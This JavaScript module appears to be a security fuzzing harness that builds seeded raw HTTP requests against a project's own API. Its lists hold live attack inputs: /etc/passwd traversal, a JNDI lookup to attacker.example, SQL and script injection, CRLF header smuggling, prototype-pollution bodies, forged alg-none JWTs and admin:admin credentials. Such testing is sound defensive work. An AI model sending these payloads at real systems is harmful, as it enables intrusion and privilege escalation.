/**
 * Hostile requests out of a seed: the same ones in each run. Each is raw bytes of HTTP/1.1, because clients refuse to
 * send much of it.
 */

/** A small generator of numbers from 0 to 1 (mulberry32). */
export function randomFrom(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const ENDPOINTS = [
  'move-installation',
  'update-user',
  'update-mfa-status',
  'send-verification',
  'read-invitation',
  'accept-invitation',
  'request-invitation',
  'submit-time-limit-exemption',
];
const METHODS = ['GET', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND'];
const STRANGE_PATHS = [
  '/',
  '//',
  '/__proto__',
  '/constructor',
  '/toString',
  '/api/api/update-user',
  '/update-user/',
  '/update-user/../move-installation',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/update-user%00',
  '/update-user%0d%0aX-Injected:%201',
  '/update-user?__proto__[isDeveloper]=true',
  '/%F0%9F%9A%97',
  '/%ff%fe',
  '/%zz',
  `/${'a'.repeat(6000)}`,
  '/UPDATE-USER',
  '/update-user;x=1',
];
const TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; charset=nonsense',
  'APPLICATION/JSON',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json, text/plain',
  'application/octet-stream',
  '',
];
const HEADERS = [
  'Origin: https://attacker.example',
  'Origin: null',
  'X-HTTP-Method-Override: DELETE',
  'X-Forwarded-For: 127.0.0.1, 10.0.0.1',
  'X-Forwarded-Host: attacker.example',
  'Content-Encoding: gzip',
  'Content-Encoding: br',
  'Content-Encoding: nonsense',
  'Expect: 200-maybe',
  'Cookie: __session=x; a=b',
  `X-Long: ${'x'.repeat(7000)}`,
  'Range: bytes=0-1',
  'X-Firebase-AppCheck: nothing',
  'Accept: text/html',
];
const STRANGE_VALUES = [
  null,
  true,
  -1,
  0,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  ' ',
  '../users/rachel-stone',
  'users/rachel-stone',
  '__name__',
  'a\u0000b',
  'a\r\nSet-Cookie: x=1',
  '\u202Egnp.exe',
  '\uD83D',
  '${jndi:ldap://attacker.example/x}',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  'x'.repeat(5001),
  [],
  [[]],
  {},
  { $gt: '' },
  { toString: 'x' },
  { _methodName: 'FieldValue.delete' },
  { seconds: 1, nanoseconds: 0 },
];
const RAW_BODIES = [
  '',
  'null',
  '[]',
  '"text"',
  '1e999',
  '-',
  '{',
  '{"id":',
  '\uFEFF{}',
  '{"id":"a","id":"b"}',
  '{"__proto__":{"isAdmin":true},"id":"x"}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"\\u005f_proto__":{"isAdmin":true}}',
  'id=x&rev=1',
  '<xml/>',
  '['.repeat(30_000),
  `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`,
  JSON.stringify({ id: 'x'.repeat(150_000) }),
  Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00]),
  Buffer.alloc(90_000, 0),
];

/**
 * One request after the other as `{ method, bytes }`; `base` is the path that the function lies under, `tokens` of real
 * people who lack the rights, `records` of ids that exist, so that not all stop at the door.
 */
export function hostileRequests({ seed, count, host, base, tokens, records }) {
  const random = randomFrom(seed);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const chance = (share) => random() < share;

  const forged = (header, payload) =>
    [header, payload].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');
  const FORGED = [
    'Bearer',
    'Bearer ',
    'Bearer null',
    'Basic YWRtaW46YWRtaW4=',
    'bearer owner',
    'Bearer owner',
    `Bearer ${'A'.repeat(6000)}`,
    'Bearer a.b.c',
    `Bearer ${forged({ alg: 'none', typ: 'JWT' }, { sub: 'nobody', user_id: 'nobody', aud: 'demo-tare', exp: 9e9 })}.`,
    `Bearer ${forged({ alg: 'none' }, { iss: 'https://securetoken.google.com/other', aud: 'other', sub: 'x', exp: 1 })}.`,
    `Bearer ${forged({ alg: 'HS256' }, { __proto__: null, sub: '../x' })}.c2ln`,
    `Bearer ${forged({ alg: 'RS256', kid: '../../etc' }, { sub: '' })}.c2ln`,
  ];
  const authorization = () => (chance(0.5) ? `Bearer ${pick(tokens)}` : pick(FORGED));

  const shape = () => {
    const body = {
      id: chance(0.6) ? pick(records) : pick(STRANGE_VALUES),
      rev: chance(0.5) ? 1 + Math.floor(random() * 4) : pick(STRANGE_VALUES),
      to: chance(0.6) ? pick(['sentToEngineer', 'complete', 'approved', 'new']) : pick(STRANGE_VALUES),
      change: chance(0.5)
        ? {
            [pick(['type', 'disabled', 'isDeveloper', 'dealerId', 'privileges'])]: pick([
              true,
              'admin',
              'x',
              null,
            ]),
          }
        : pick(STRANGE_VALUES),
      build: pick(['main', 'engineer', 1]),
      password: pick(STRANGE_VALUES),
    };
    for (const name of Object.keys(body)) if (chance(0.2)) delete body[name];
    if (chance(0.3)) body[pick(['user', '_rev', 'uid', 'privileges', 'toJSON'])] = pick(STRANGE_VALUES);
    return JSON.stringify(body);
  };

  const one = () => {
    const method = chance(0.8) ? 'POST' : pick(METHODS);
    const path = chance(0.8) ? `/${pick(ENDPOINTS)}` : pick(STRANGE_PATHS);
    const raw = chance(0.65) ? shape() : pick(RAW_BODIES);
    const body = Buffer.isBuffer(raw) ? raw : Buffer.from(raw, 'utf8');
    const type = chance(0.75) ? 'application/json' : pick(TYPES);
    const lines = [
      `${method} ${base}${path} HTTP/1.1`,
      `Host: ${host}`,
      'Connection: close',
      ...(type === '' ? [] : [`Content-Type: ${type}`]),
      ...(chance(0.85) ? [`Authorization: ${authorization()}`] : []),
      ...(chance(0.3) ? [pick(HEADERS)] : []),
      `Content-Length: ${body.length}`,
    ];
    return { method, bytes: Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'utf8'), body]) };
  };
  return Array.from({ length: count }, one);
}
